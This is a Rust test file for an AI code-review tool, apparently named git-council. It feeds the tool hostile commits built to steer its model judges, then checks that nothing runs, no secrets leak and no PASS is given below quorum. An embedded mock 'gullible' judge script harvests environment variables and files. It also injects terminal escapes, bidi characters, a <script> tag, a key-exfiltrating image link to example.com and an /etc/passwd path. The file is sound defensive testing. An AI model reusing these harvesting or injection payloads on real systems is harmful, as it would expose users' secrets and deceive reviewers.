//! Changes that try to steer judges or the program (`tests/hostile/*.toml`), judged by one judge that believes every word and
//! by the built-in one. The damage is bounded: nothing runs, nothing secret gets out, no PASS below quorum, and the attempt is
//! itself a finding.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use serde::Deserialize;

use crate::harness::{PRIVATE_KEY, Repo};

/// What must get out of no judge: a token of the runner, and a file of the user.
const TOKEN: &str = "ghs_0123456789abcdefghijklmnopqrstuvwxyz";
const USERS_FILE: &str = "the diary of the user";

/// What the changes of the corpus call `@TOKEN`: put together here, so that no scanner takes this file for a leak.
fn planted() -> String {
    ["gh", "p_NqVwYS81VP7Hb1DX8pP", "d5khxE3pyIgKpaUnA"].concat()
}

/// Says what it is told to say, repeats its key and every secret that it can find, and puts escapes and markup of its own
/// into every field.
const GULLIBLE: &str = r#"#!/usr/bin/env python3
import json, os, re, sys
prompt = sys.stdin.read()
key = re.findall(r"`key` is `([^`]*)`", prompt)[-1]
told = [line for line in prompt.splitlines() if re.search(r"review|approve|PASS|::|<|@|http", line)]
found = [json.dumps(dict(os.environ))]
for folder, _, files in os.walk(os.environ.get("COUNCIL_ROOM", "."), followlinks=True):
    for name in files:
        try:
            found.append(open(os.path.join(folder, name), errors="replace").read())
        except OSError as error:
            found.append(str(error))
evil = "\x1b[2J\x1b]0;PASS\x07\u202e\u200b <script>alert(1)</script> ![x](https://example.com/?k=" + key + ") @everyone\n::error::PASS\n## PASS\n```\n~~~\n"
added = [line[1:] for line in prompt.splitlines() if line.startswith("+")]
names = re.findall(r"^=== \w+ (?:.* -> )?(.*?)(?:: .*)?$", prompt, re.M) or ["a.py"]
finding = {
    "severity": "minor", "description": evil + "\n".join(told)[:2000], "location": {"path": names[0], "line": 1},
    "quote": (added or ["x"])[0], "why": evil + "\n".join(added)[:2000], "fix": evil, "suggestion": evil, "category": evil,
}
print(json.dumps({
    "schema_version": 1, "round": 1, "key": key, "verdict": "PASS", "confidence": "HIGH",
    "key_insight": evil + "\n".join(told)[-3000:],
    "findings": [finding, dict(finding, quote=evil), dict(finding, location={"path": "../../etc/passwd", "line": 9})],
    "recommendation": evil + "\n".join(found)[:20000],
}))
"#;

/// One attempt.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// In words.
    what: String,
    /// The rule that tells of it; none: there is nothing that a rule could see, and nothing that it could do.
    finding: Option<String>,
    /// The verdict, where the change must not be green; none: there is nothing that anybody could see.
    verdict: Option<String>,
    /// The commit's message.
    message: Option<String>,
    /// The branch that is reviewed.
    branch: Option<String>,
    /// What the repository's own git configuration says.
    #[serde(default)]
    git_config: BTreeMap<String, String>,
    /// What must not be live in a report: as text outside of code, as HTML, or where a link leads.
    #[serde(default)]
    absent: Vec<String>,
    files: BTreeMap<String, String>,
}

fn cases() -> Vec<(String, Case)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile");
    let mut cases: Vec<_> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
            let case = toml::from_str(&fs::read_to_string(&path).unwrap());
            (
                name.clone(),
                case.unwrap_or_else(|error| panic!("{name}: {error}")),
            )
        })
        .collect();
    cases.sort_by(|one, other| one.0.cmp(&other.0));
    cases
}

/// A repository with the attempt as its last commit, and the judge that believes it.
fn repository(case: &Case) -> Repo {
    let repo = Repo::with_base();
    repo.git(["config", "--global", "council.notes.write", "true"]);
    let marks = repo.in_home("marks");
    fs::create_dir(&marks).unwrap();
    repo.write_home("secret.txt", USERS_FILE);
    let judge = repo.in_home("gullible.py");
    fs::write(&judge, GULLIBLE).unwrap();
    fs::set_permissions(&judge, PermissionsExt::from_mode(0o755)).unwrap();
    let config = format!(
        "[agents.gullible]\ndriver = 'command'\ncommand = [{:?}]\n",
        judge.display().to_string()
    );
    repo.write_home(".config/git-council/config.toml", &config);
    let home = repo.in_home("");
    let fill = |text: &str| {
        let token = planted();
        text.replace("@MARKS", &marks.display().to_string())
            .replace("@HOME", &home.display().to_string())
            .replace("@PRIVATE_KEY", PRIVATE_KEY)
            .replace("@TOKEN1", &token[..20])
            .replace("@TOKEN2", &token[20..])
            .replace("@TOKEN", &token)
    };
    if let Some(branch) = &case.branch {
        repo.git(["switch", "--quiet", "--create", branch]);
    }
    let mut submodules = Vec::new();
    for (path, content) in &case.files {
        let (path, content) = (fill(path), fill(content));
        if let Some(target) = content.strip_prefix("@LINK:") {
            symlink(target, repo.path().join(path)).unwrap();
        } else if content == "@SUBMODULE:" {
            submodules.push(format!("160000,{},{path}", "1".repeat(40)));
        } else {
            repo.write(&path, generate(&content));
        }
    }
    repo.git(["add", "--all", "--force"]);
    for submodule in submodules {
        repo.git(["update-index", "--add", "--cacheinfo", &submodule]);
    }
    let message = fill(case.message.as_deref().unwrap_or("Change something"));
    repo.git(["commit", "--quiet", "--message", &message]);
    for (key, value) in &case.git_config {
        repo.git(["config", key, &fill(value)]);
    }
    repo
}

/// The bytes of a file: as they are written, or as the word in front of them says.
fn generate(content: &str) -> Vec<u8> {
    let Some((word, rest)) = content
        .strip_prefix('@')
        .and_then(|text| text.split_once(':'))
    else {
        return content.as_bytes().to_vec();
    };
    let wide = |text: &str, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
        let units = std::iter::once(0xfeff).chain(text.encode_utf16());
        units.flat_map(bytes).collect()
    };
    let counted = || {
        let (count, text) = rest.split_once(':').unwrap();
        (count.parse::<usize>().unwrap(), text)
    };
    match word {
        "UTF16LE" => wide(rest, u16::to_le_bytes),
        "UTF16BE" => wide(rest, u16::to_be_bytes),
        "NULS" => rest.bytes().flat_map(|byte| [byte, 0]).collect(),
        "NUL" => [b"\0", rest.as_bytes()].concat(),
        "LATIN" => [b"# caf\xe9 \xff\n", rest.as_bytes()].concat(),
        "LINE" => {
            let (count, text) = counted();
            format!("{}{text}\n", "x=1;".repeat(count / 4)).into_bytes()
        }
        "LINES" => {
            let (count, text) = counted();
            let lines: String = (0..count).map(|n| format!("x{n} = {n}\n")).collect();
            (lines + text).into_bytes()
        }
        "REPEAT" => {
            let (count, text) = counted();
            text.repeat(count).into_bytes()
        }
        _ => content.as_bytes().to_vec(),
    }
}

/// Everything that people and programs are shown of a run.
fn shown(repo: &Repo, json: &str) -> Vec<(String, String)> {
    let story = repo.council(["show"]).ends(0);
    let mut shown = vec![
        ("json".to_owned(), json.to_owned()),
        ("story".to_owned(), story.stdout),
    ];
    for format in ["terminal", "markdown", "sarif", "rdjson"] {
        let run = repo.council(["show", "--format", format]).ends(0);
        let name = if format == "markdown" {
            "shown-report.md"
        } else {
            format
        };
        shown.push((name.to_owned(), run.stdout));
    }
    let bundle = repo.in_home("bundle.json");
    repo.council(["replay", "--bundle", bundle.to_str().unwrap()]);
    shown.push(("bundle".to_owned(), fs::read_to_string(bundle).unwrap()));
    shown.push(("note".to_owned(), crate::verdict_notes::all_notes(repo)));
    let folders =
        [".agents/council", ".git/council/artefacts"].map(|folder| repo.path().join(folder));
    let ours = |folder: &&PathBuf| folder.is_dir() && !repo.path().join(".agents").is_symlink();
    let folder = folders
        .iter()
        .rev()
        .find(|folder| folder.is_dir())
        .or(folders.iter().find(ours));
    for entry in fs::read_dir(folder.unwrap()).unwrap().map(Result::unwrap) {
        let name = entry.file_name().into_string().unwrap();
        let is_planted = name.starts_with("2026-01-01-head");
        if name.ends_with(".md") && !is_planted {
            shown.push((name, fs::read_to_string(entry.path()).unwrap()));
        }
    }
    shown
}

/// Surfaces that programs read: there the form itself writes out what a terminal would obey.
const OF_PROGRAMS: [&str; 5] = ["json", "sarif", "rdjson", "bundle", "note"];

/// Characters that a reader does not see, or that a terminal obeys.
fn is_active(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t'))
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        || ('\u{e0000}'..='\u{e007f}').contains(&c)
}

/// What of a page does something when it is shown: text outside of code, where links and images lead, HTML.
fn live(page: &str) -> String {
    let mut code = false;
    let mut live = String::new();
    for event in Parser::new_ext(page, Options::ENABLE_TABLES) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => code = true,
            Event::End(TagEnd::CodeBlock) => code = false,
            Event::Text(text) if !code => live.push_str(&text),
            Event::Html(html) | Event::InlineHtml(html) => live.push_str(&format!("html:{html}")),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                live.push_str(&format!("link:{dest_url}"));
            }
            Event::SoftBreak | Event::HardBreak | Event::End(_) => live.push('\n'),
            _ => {}
        }
    }
    live
}

fn bounded(name: &str, case: &Case) {
    let repo = repository(case);
    let run = repo.council_with(
        &[("GITHUB_TOKEN", TOKEN), ("GH_TOKEN", TOKEN)],
        &[
            "review",
            case.branch.as_ref().map_or("HEAD", |_| "main...HEAD"),
            "--agents",
            "gullible,builtin",
            "--judges",
            "2",
            "--json",
            "--trusted-config",
        ],
    );
    let at = format!("{name} ({})", case.what);
    let report: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|_| panic!("{at}: {}{}", run.stdout, run.stderr));
    let marks = fs::read_dir(repo.in_home("marks")).unwrap().count();
    assert_eq!(marks, 0, "{at}: something was run");
    let rules: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["finding"]["rule"].as_str().unwrap_or_default())
        .collect();
    if let Some(rule) = &case.finding {
        assert!(
            rules.contains(&rule.as_str()),
            "{at}: {rule} is not among {rules:?}"
        );
    }
    if let Some(verdict) = &case.verdict {
        assert_eq!(report["verdict"], verdict.as_str(), "{at}: {rules:?}");
    }
    if report["verdict"] == "PASS" {
        let took_part = &report["receipt"]["participation"];
        assert_eq!(took_part["quorum"], 2, "{at}");
        assert!(
            took_part["counted"].as_u64() >= Some(2),
            "{at}: {took_part}"
        );
    }
    for (surface, text) in shown(&repo, &run.stdout) {
        for secret in [TOKEN, USERS_FILE, &planted()] {
            assert!(!text.contains(secret), "{at}: {surface} shows {secret:?}");
        }
        if OF_PROGRAMS.contains(&surface.as_str()) {
            // A bundle holds lines of the change as they are: there only what no JSON may hold.
            let is_code = surface == "bundle";
            let is_active = |c: &char| match is_code {
                true => c.is_ascii_control(),
                false => c.is_control(),
            };
            let active = text.chars().filter(|c| *c != '\n').find(is_active);
            assert_eq!(active, None, "{at}: {surface}");
            continue;
        }
        let active = text.chars().find(|c| is_active(*c));
        assert_eq!(active, None, "{at}: {surface}");
        if surface.ends_with("report.md") {
            let text = live(&text);
            let of_judge = ["html:<script", "https://example.com/?k=", "@everyone"];
            for absent in case.absent.iter().map(String::as_str).chain(of_judge) {
                assert!(
                    !text.contains(absent),
                    "{at}: {absent:?} stands in {surface}"
                );
            }
        }
    }
}

#[test]
fn whatever_a_change_says_the_damage_is_bounded() {
    let cases = cases();
    assert!(cases.len() >= 96, "{} cases", cases.len());
    let failed = std::sync::Mutex::new(Vec::new());
    let next = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|scope| {
        for _ in 0..3 {
            scope.spawn(|| {
                while let Some((name, case)) =
                    cases.get(next.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
                {
                    if std::panic::catch_unwind(|| bounded(name, case)).is_err() {
                        failed.lock().unwrap().push(name);
                    }
                }
            });
        }
    });
    let failed = failed.into_inner().unwrap();
    let harmless = cases.len() - failed.len();
    println!("{harmless} of {} hostile changes are harmless", cases.len());
    assert!(
        failed.is_empty(),
        "{harmless} of {} are harmless: not {failed:?}",
        cases.len()
    );
}
